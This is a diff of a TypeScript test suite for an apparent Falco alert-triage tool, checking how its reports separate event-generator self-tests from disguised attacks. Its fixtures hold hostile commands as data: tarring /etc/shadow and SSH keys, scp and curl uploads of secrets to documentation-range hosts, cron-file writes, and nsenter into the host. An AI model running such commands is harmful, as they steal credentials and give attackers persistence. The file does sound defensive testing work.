@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import type { FieldValue } from '../../src/domain/event.ts'
 import { problemsIn } from '../../src/report/verify.ts'
 import { anEvent, morning } from '../event.ts'
 import { alertOf, bareEvent, bucketPolicy, commandsOf, dossierOf, materialOf, reportOn, secretRead, selfTest, textOf } from './material.ts'
@@ -104,6 +105,125 @@ describe("a report on a run of Falco's event generator", () => {
     expect(copied({ 'proc.cmdline': `sh -c ${file}; id` }).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
   })
 
+  const generators = { 'container.image.repository': 'docker.io/falcosecurity/event-generator' }
+  const marked = (rule: string, fields: Readonly<Record<string, FieldValue>>) =>
+    reportOn(bareEvent({ rule, tags: [] }, { 'container.id': 'host', 'proc.pname': 'event-generator', ...fields }))
+
+  test.each<[string, string, Readonly<Record<string, FieldValue>>]>([
+    [
+      'credentials packed into a file of its name',
+      'Read sensitive file untrusted',
+      {
+        'proc.name': 'tar',
+        'proc.cmdline': 'tar czf /tmp/falco-event-generator-syscall-Foo-1.tgz /etc/shadow /root/.ssh',
+        'fd.name': '/etc/shadow',
+      },
+    ],
+    [
+      'a file of its name copied away',
+      'Launch Remote File Copy Tools in Container',
+      { 'proc.name': 'scp', 'proc.cmdline': 'scp /tmp/falco-event-generator-syscall-A1-x root@203.0.113.4:/loot' },
+    ],
+    [
+      'a redirect to a scheduled job',
+      'Write below etc',
+      {
+        'proc.name': 'sh',
+        'proc.cmdline': 'sh -c cat /tmp/falco-event-generator-syscall-WriteBelowEtc-1 > /etc/cron.d/x',
+        'fd.name': '/etc/cron.d/x',
+      },
+    ],
+    [
+      'a download in its image',
+      'Launch Ingress Remote File Copy Tools in Container',
+      { ...generators, 'proc.name': 'wget', 'proc.cmdline': 'wget http://203.0.113.9/x -O /tmp/x' },
+    ],
+    [
+      'an upload under a rule that it has no action for',
+      'Unexpected outbound connection destination',
+      {
+        ...generators,
+        'proc.name': 'curl',
+        'proc.cmdline': 'curl https://203.0.113.44/upload -T /etc/passwd',
+        'fd.name': '10.0.0.1:4000->203.0.113.44:443',
+      },
+    ],
+    [
+      "the action's command at another peer",
+      'System procs network activity',
+      { 'proc.name': 'sha1sum', 'proc.cmdline': 'sha1sum run ^helper.NetworkActivity$', 'fd.name': '10.0.0.1:4000->203.0.113.44:443' },
+    ],
+  ])('is doubted where it does not show the action made for its rule: %s', (_what, rule, fields) => {
+    const doubtful = marked(rule, fields)
+    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+    expect(textOf(doubtful, 'Verdict')).toContain('Against it: ')
+    expect(textOf(doubtful)).not.toContain('benign if somebody ran it')
+    expect(problemsIn(doubtful)).toEqual([])
+  })
+
+  test.each([
+    ['its parent', { 'proc.pexepath': '/usr/bin/bash' }],
+    ["its parent's command line", { 'proc.pcmdline': 'bash -i' }],
+    ['itself', { 'proc.exepath': '/tmp/x/kworker' }],
+  ])('is doubted where a binary belies a name: %s', (_whose, fields) => {
+    const doubtful = copied(fields)
+    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+    expect(textOf(doubtful, 'Verdict')).toContain('the one belies the other')
+  })
+
+  test('is not taken in by a field that Falco does not make', () => {
+    const fields = { 'proc.pname': 'java', 'proc.pcmdline': 'java -jar x.jar', myimage: 'falcosecurity/event-generator' }
+    expect(textOf(copied(fields), 'Verdict')).toContain('Confidence: low, because only one mark')
+  })
+
+  test('is not taken for granted in the audit log of Kubernetes, where the generator leaves no name of its own', () => {
+    const pod = bareEvent(
+      { rule: 'Create Privileged Pod', source: 'k8s_audit', tags: [] },
+      {
+        'ka.user.name': 'system:serviceaccount:default:web',
+        'ka.target.name': 'falco-event-generator-k8saudit-CreatePrivilegedPod-x',
+        'ka.target.namespace': 'kube-system',
+        'ka.req.pod.containers.image': ['falcosecurity/event-generator'],
+      },
+    )
+    expect(reportOn(pod).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+  })
+
+  test.each<[string, Readonly<Record<string, FieldValue>>]>([
+    [
+      'Write below etc',
+      {
+        'proc.name': 'event-generator',
+        'proc.cmdline': 'event-generator run syscall --all',
+        'proc.exepath': '/bin/event-generator',
+        'proc.pname': 'containerd-shim',
+        'fd.name': '/etc/falco-event-generator-syscall-WriteBelowEtc-7550041968',
+      },
+    ],
+    [
+      'Unexpected UDP Traffic',
+      { 'proc.name': 'nc', 'proc.cmdline': 'nc -u example.com 22', 'fd.name': '10.42.6.148:34025->203.0.113.185:22' },
+    ],
+    [
+      'Debugfs Launched in Privileged Container',
+      { 'proc.name': 'debugfs', 'proc.cmdline': 'debugfs -V', 'proc.exepath': '/usr/sbin/debugfs' },
+    ],
+  ])('is known by the action made for its rule: %s', (rule, fields) => {
+    const honest = marked(rule, { 'container.id': 'c61b4b13ae44', ...generators, ...fields })
+    expect(honest.verdict).toMatchObject({ label: 'Falco self-test', confidence: 'high' })
+    expect(textOf(honest, 'Verdict')).toContain('is made to set off this very rule')
+    expect(problemsIn(honest)).toEqual([])
+  })
+
+  test('is not taken in by a marked event of another command that joins the alert', () => {
+    const fields = new Map([
+      ...selfTest.fields,
+      ['proc.cmdline', 'sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-1.sh /etc/shadow'],
+    ])
+    const events = [selfTest, { ...selfTest, fields }].map((event) => ({ event, receivedAt: morning, verdict: 'fold' as const }))
+    expect(reportOn(selfTest, { events }).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+  })
+
   test('is not taken in by a test that opens an alert which other events then join', () => {
     const intruder = {
       ...selfTest,
@@ -140,11 +260,49 @@ describe('a report says what the fields support', () => {
     expect(assess({ fields: { 'proc.pname': 'php-fpm' } })).toContain('bash runs beneath php-fpm, a web server')
   })
 
-  test('a binary that did not come with the image is suspicious, one that did is not', () => {
-    expect(assess({ fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' } })).toContain('it did not come with the image')
+  test('a binary that was added or changed after the image was built is suspicious, one that came with it is not', () => {
+    const upper = { fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER', 'proc.exepath': '/tmp/x' } }
+    expect(assess(upper)).toContain('it was added or changed after the image was built')
+    expect(assess(upper)).not.toContain('did not come with the image')
+    expect(reported(upper).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
     const lower = { fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER' } }
     expect(assess(lower)).toContain('Not settled')
     expect(observe(lower)).toContain('came with the image')
+  })
+
+  test('what was added where packages put their programs is less surely so: an installed package looks the same', () => {
+    const added = (path: string) =>
+      reported({ fields: { 'evt.arg.flags': 'EXE_UPPER_LAYER', 'proc.name': 'git', 'proc.exepath': path } }).verdict.confidence
+    expect([added('/usr/bin/git'), added('/usr/local/bin/git')]).toEqual(['low', 'medium'])
+    expect(assess({ fields: { 'evt.arg.flags': 'EXE_UPPER_LAYER', 'proc.exepath': '/usr/bin/git' } })).toContain(
+      'a package installed since then looks the same',
+    )
+  })
+
+  test.each(['EINPROGRESS', 'EALREADY', 'EISCONN'])('%s of a connection is no failed attempt', (result) => {
+    expect(reported({ fields: { 'evt.type': 'connect', 'evt.res': result } }).verdict.label).toBe('not settled')
+  })
+
+  const refused = { 'evt.type': 'connect', 'evt.res': 'ECONNREFUSED', 'fd.name': '10.0.0.2:4444->203.0.113.3:443', 'fd.rport': 443 }
+
+  test('a connection that was refused does not make the malware that tried it harmless', () => {
+    const malware = { fields: { ...refused, 'proc.name': 'kinsing', 'proc.exepath': '/dev/shm/kinsing', 'proc.pname': 'nginx' } }
+    expect(reported(malware).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
+    expect(assess(malware)).toContain('The connection failed (ECONNREFUSED), but the process that tried it was running.')
+    expect(assess(malware)).not.toContain('Whether it was wanted, the event does not settle')
+    expect(reported({ fields: refused }).verdict.label).toBe('failed attempt')
+  })
+
+  test('an execve that failed is a failed attempt, and what else it shows is not called unsettled', () => {
+    const failed = { fields: { 'evt.res': 'EACCES', 'proc.exepath': '/dev/shm/x' } }
+    expect(reported(failed).verdict).toMatchObject({ label: 'failed attempt', confidence: 'high' })
+    expect(assess(failed)).toContain('An attempt that failed (EACCES). What it shows besides is rare in ordinary operation')
+    expect(assess(failed)).not.toContain('does not settle')
+  })
+
+  test('a file that could not be opened is not said to have been', () => {
+    const text = assess({ fields: { 'evt.type': 'openat', 'evt.res': 'EACCES', 'proc.name': 'cat', 'fd.name': '/etc/shadow' } })
+    expect(text).toContain('tried to open /etc/shadow')
   })
 
   test('an errno is a failed attempt, a connection under way is not', () => {
@@ -233,6 +391,22 @@ describe('a report says what the fields support', () => {
     expect(assess({ fields })).toContain('because the fields looked at do not settle it')
   })
 
+  test.each([null, '', '<NA>'])('where container.id is %j, nobody knows whether it was in a container, and that is not denied', (id) => {
+    const fields = { 'container.id': id, 'proc.cmdline': 'nsenter -t 1 -m sh' }
+    expect(observe({ fields })).not.toContain('outside any container')
+    expect(observe({ fields })).toContain('The event does not say in which container, if any: from one, that can be a way out')
+    expect(reported({ fields }).verdict).toMatchObject({ label: 'suspicious', confidence: 'low' })
+  })
+
+  test('a file that was opened to be read is not told as changed, whatever the rule is called', () => {
+    const opened = (flags: string | null) =>
+      reported({
+        rule: 'Config changed watch',
+        fields: { 'evt.type': 'openat', 'fd.name': '/etc/ld.so.preload', 'proc.name': 'ls', 'evt.arg.flags': flags },
+      }).verdict.label
+    expect([opened('O_RDONLY|O_CLOEXEC'), opened('O_RDWR'), opened(null)]).toEqual(['not settled', 'suspicious', 'suspicious'])
+  })
+
   test('a shell whose streams lead to a public address is suspicious, one that talks inside is not', () => {
     const joinedTo = (far: string) =>
       reported({ fields: { 'evt.type': 'dup2', 'proc.name': 'bash', 'fd.name': `10.0.0.4:50000->${far}:4444` } }).verdict.label
@@ -300,9 +474,12 @@ describe('a report says what the fields support', () => {
     expect(answered('403')).toContain('The request was turned down (403)')
   })
 
-  test('a program whose binary is the new one was started, though no result says so', () => {
+  test('a program is not said to have been started because its binary bears its name: after a failure both are the caller', () => {
     const fields = { 'proc.name': 'xmrig', 'proc.exepath': '/usr/local/bin/xmrig', 'proc.cmdline': 'xmrig -o x' }
-    expect(textOf(reported({ fields }), 'Summary')).toContain('xmrig was started, as its binary is /usr/local/bin/xmrig')
+    expect(textOf(reported({ fields }), 'Summary')).toContain(
+      'xmrig was seen at an execve (its result is not given) with the command line xmrig -o x',
+    )
+    expect(textOf(reported({ fields }))).not.toMatch(/was started, as|leaves the caller/)
   })
 
   test('a rule that fired is not said to be unable to', () => {
@@ -334,15 +511,32 @@ describe('a report says what the fields support', () => {
     expect(run('/bin/busybox')).toContain('No vulnerability and no misconfiguration is shown')
   })
 
-  test('a package manager beneath a tool that builds images is probably known', () => {
-    const fields = { 'proc.name': 'apk', 'proc.pname': 'sh', 'proc.aname[2]': 'buildkitd' }
-    expect(reported({ fields }).verdict).toMatchObject({ label: 'known maintenance', confidence: 'low' })
+  const packages = 'Launch Package Management Process in Container'
+  const apk = { 'proc.name': 'apk', 'proc.cmdline': 'apk add curl', 'proc.pname': 'sh', 'proc.aname[2]': 'buildkitd' }
+
+  test('a package manager beneath a tool that builds images fits a build, which nobody has confirmed', () => {
+    const report = reported({ rule: packages, fields: apk })
+    expect(report.verdict).toMatchObject({ label: 'fits an image build', confidence: 'low' })
+    expect(textOf(report, 'Conclusion')).toContain('whether an image was built')
+    expect(textOf(report)).not.toContain('what was explained before')
+  })
+
+  test.each([
+    ['a peer outside', packages, { 'proc.cmdline': 'pip install --index-url http://203.0.113.9/simple evil' }],
+    ['a binary elsewhere', packages, { 'proc.exepath': '/tmp/apk' }],
+    ['a rule about other things', 'Drop and execute new binary in container', {}],
+    ['credentials', 'Read sensitive file untrusted', { 'evt.type': 'openat', 'fd.name': '/etc/shadow' }],
+    ['credentials under its own rule', packages, { 'proc.cmdline': 'apk add --root /root/.ssh x' }],
+    ['what outlasts it', 'Write below etc', { 'evt.type': 'openat', 'fd.name': '/etc/cron.d/x' }],
+    ['a connection', 'Unexpected outbound connection destination', { 'evt.type': 'connect', 'fd.name': '10.1.1.1:3->203.0.113.9:4444' }],
+  ])('%s is not explained by the names of a build', (_what, rule, fields) => {
+    expect(reported({ rule, fields: { ...apk, ...fields } }).verdict.label).toBe('not settled')
   })
 
   test('an execve without a result is not said to have run', () => {
-    expect(textOf(reported({}), 'Summary')).toContain('bash was seen in a call to execute it, whose result the event does not give,')
+    expect(textOf(reported({}), 'Summary')).toContain('bash was seen at an execve (its result is not given)')
     expect(textOf(reported({ fields: { 'evt.res': 'SUCCESS' } }), 'Summary')).toContain('bash was executed')
-    expect(textOf(reported({ fields: { 'evt.res': 'EACCES' } }), 'Summary')).toContain('bash called execve')
+    expect(textOf(reported({ fields: { 'evt.res': 'EACCES' } }), 'Summary')).toContain('bash called execve (its own command line is')
   })
 
   test('lost events are a blind spot and no threat', () => {
